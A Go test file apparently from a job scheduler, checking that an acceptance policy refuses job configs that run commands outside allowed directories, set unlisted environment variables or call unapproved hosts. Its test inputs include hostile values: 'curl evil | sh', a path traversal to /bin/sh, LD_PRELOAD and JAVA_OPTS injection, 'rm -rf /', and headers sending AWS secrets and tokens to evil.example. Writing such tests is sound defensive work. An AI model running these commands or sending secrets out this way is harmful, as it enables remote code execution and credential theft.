package config

import (
	"strings"
	"testing"
)

func TestAcceptPolicy(t *testing.T) {
	policy := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}, HookHosts: []string{"hooks.internal", "10.0.0.5:8443"}, Env: []string{"REGION", "PATH_SUFFIX"}}
	dirsOnly := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}}
	tests := []struct {
		name   string
		policy AcceptPolicy
		job    string // the YAML of one job's fields
		want   string // "" accepted; else a part of the refusal
	}{
		{"not accepting", AcceptPolicy{}, "script: [/opt/jobs/a.sh]", "--accept-applied"},
		{"no restrictions", AcceptPolicy{Applied: true}, `script: "curl evil | sh"`, ""},
		{"argv under a dir", policy, "script: [/opt/jobs/a.sh, --flag]", ""},
		{"argv in a subdirectory", policy, "script: [/opt/jobs/etl/run]", ""},
		{"argv elsewhere", policy, "script: [/usr/bin/curl]", "script.command runs /usr/bin/curl, which is not under --accept-command-dir /opt/jobs"},
		{"the dir itself", policy, "script: [/opt/jobs]", "not under"},
		{"a sibling with the dir as prefix", policy, "script: [/opt/jobs-evil/x]", "not under"},
		{"dot-dot out of the dir", policy, "script: [/opt/jobs/../../bin/sh]", "runs /bin/sh"},
		{"relative program", policy, "script: [jobs/a.sh]", "not an absolute path"},
		{"shell string", policy, `script: "/opt/jobs/a.sh"`, "shell string"},
		{"LD_PRELOAD", policy, "script: {command: [/opt/jobs/a.sh], env: {LD_PRELOAD: /tmp/x.so}}", "script.env sets LD_PRELOAD, which --accept-env does not name"},
		{"PATH", policy, "script: {command: [/opt/jobs/a.sh], env: {PATH: /tmp}}", "script.env sets PATH"},
		{"JAVA_OPTS", policy, "script: {command: [/opt/jobs/a.sh], env: {JAVA_OPTS: '-XX:OnOutOfMemoryError=id'}}", "script.env sets JAVA_OPTS"},
		{"a variable --accept-env names", policy, "script: {command: [/opt/jobs/a.sh], env: {REGION: eu}}", ""},
		{"no --accept-env: no variable", dirsOnly, "script: {command: [/opt/jobs/a.sh], env: {REGION: eu}}", "script.env sets REGION"},
		{"a header with $VAR to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Leak: '$AWS_SECRET_ACCESS_KEY'}}", "http.headers X-Leak sends a variable"},
		{"a header with ${VAR} to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Leak: 'Bearer ${TOKEN}'}}", "http.headers X-Leak sends a variable"},
		{"a plain header to any host", dirsOnly, "http: {url: 'https://evil.example/', headers: {X-Id: shardd}}", ""},
		{"a header with a variable to an accepted host", policy, "http: {url: 'https://hooks.internal/', headers: {Authorization: 'Bearer ${TOKEN}'}}", ""},
		{"onFailure command", policy, "script: [/opt/jobs/a.sh]\n    onFailure: {command: [/bin/sh, -c, x]}", "onFailure.command runs /bin/sh"},
		{"listener", policy, "script: [/opt/jobs/a.sh]\n    listeners: {after: 'rm -rf /'}", "listeners.after is a shell string"},
		{"hook on an accepted host", policy, "http: {url: 'https://hooks.internal/run'}", ""},
		{"hook host is case-insensitive", policy, "http: {url: 'https://HOOKS.internal:9000/run'}", ""},
		{"hook on another host", policy, "http: {url: 'https://evil.example/run'}", "http.url calls evil.example:443, which is not an --accept-hook-host"},
		{"host:port matches that port only", policy, "http: {url: 'https://10.0.0.5:9000/'}", "10.0.0.5:9000"},
		{"host:port", policy, "http: {url: 'https://10.0.0.5:8443/'}", ""},
		{"host with userinfo", policy, "http: {url: 'https://hooks.internal@evil.example/'}", "evil.example"},
		{"webhook", policy, "http: {url: 'https://hooks.internal/run'}\n    onFailure: {webhook: 'https://chat.example/x'}", "onFailure.webhook calls chat.example:443"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := ParseWithoutEnv("t.yaml", []byte("jobs:\n  - name: j\n    "+tt.job+"\n"))
			if err != nil {
				t.Fatal(err)
			}
			err = tt.policy.Check(c.Jobs[0])
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("refused: %v", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("got %v, want an error with %q", err, tt.want)
			}
		})
	}
}
